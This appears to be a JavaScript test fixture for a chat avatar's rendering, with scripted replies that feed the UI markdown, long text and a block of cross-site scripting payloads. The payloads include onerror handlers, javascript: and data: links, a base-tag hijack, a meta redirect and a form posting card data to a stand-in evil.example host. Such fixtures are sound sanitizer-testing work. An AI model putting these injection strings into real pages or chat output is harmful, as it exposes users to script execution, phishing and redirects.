// What the avatar says in these tests.

export const PIECES = Array.from({ length: 30 }, (_, n) => `w${n + 1} `)
export const WHOLE = PIECES.join('').trim()

export const HOSTILE = [
  'Look: <img src="https://evil.example/x.png" onerror="globalThis.owned = 1">',
  '<script>globalThis.owned = 2</script> <iframe src="https://evil.example"></iframe>',
  '[a link](javascript:globalThis.owned=3) <a href="JaVaScRiPt:globalThis.owned=4">another</a>',
  '[data](data:text/html,<script>globalThis.owned=5</script>) ![picture](https://evil.example/spy.png)',
  '<b style="position:fixed;inset:0" onclick="globalThis.owned=6" class="x" id="y">loud</b>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<svg><a xlink:href="javascript:globalThis.owned=7"><text>svg</text></a></svg><style>*{display:none}</style>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[good](https://second.me/page) and **bold** words. The end.',
].join('\n\n')

export const MARKDOWN = [
  '## Prices\n\nA *slide rule* costs **120 €**:\n\n- brass\n- steel\n\n1. one\n2. two\n\n`code` and\n\n```\nblock of code\n```\n\n',
  '| thing | price |\n| --- | --- |\n| rule | 120 € |\n\n> said by Ada\n\n[The list](https://shop.example/prices)',
].join('')

const LONG_WORD = 'Donaudampfschifffahrtsgesellschaft'.repeat(6)

export const BRAIN = {
  script: {
    avatar: { name: "Ada's avatar", opening: 'Hello! What can I do for you?' },
    rules: [
      // The first piece, and no other within a test: `model.mjs` is for those who want them.
      { when: { contains: 'slowly' }, then: [{ say: { pieces: PIECES, delay: '3600s' } }] },
      { when: { contains: 'hostile' }, then: [{ say: { text: HOSTILE, whole: true } }] },
      { when: { contains: 'markdown' }, then: [{ say: { text: MARKDOWN } }] },
      { when: { contains: 'wide' }, then: [{ say: `${LONG_WORD} https://shop.example/${'a'.repeat(300)}` }] },
      {
        when: { contains: 'sources' },
        then: [
          {
            say: {
              text: 'It stands in the list.',
              sources: [
                { title: 'Price list', link: 'https://shop.example/prices' },
                { title: 'Not a link', link: 'javascript:globalThis.owned=8' },
              ],
              cards: [{ template: 'StandardCard', params: { title: 'Slide rule', description: 'Of brass' } }],
            },
          },
        ],
      },
      { when: { contains: 'fails' }, then: [{ fail: { code: 'session.openai.error', reason: 'The model is down' } }] },
      { when: 'any', then: [{ say: 'I have heard you.' }] },
    ],
  },
}
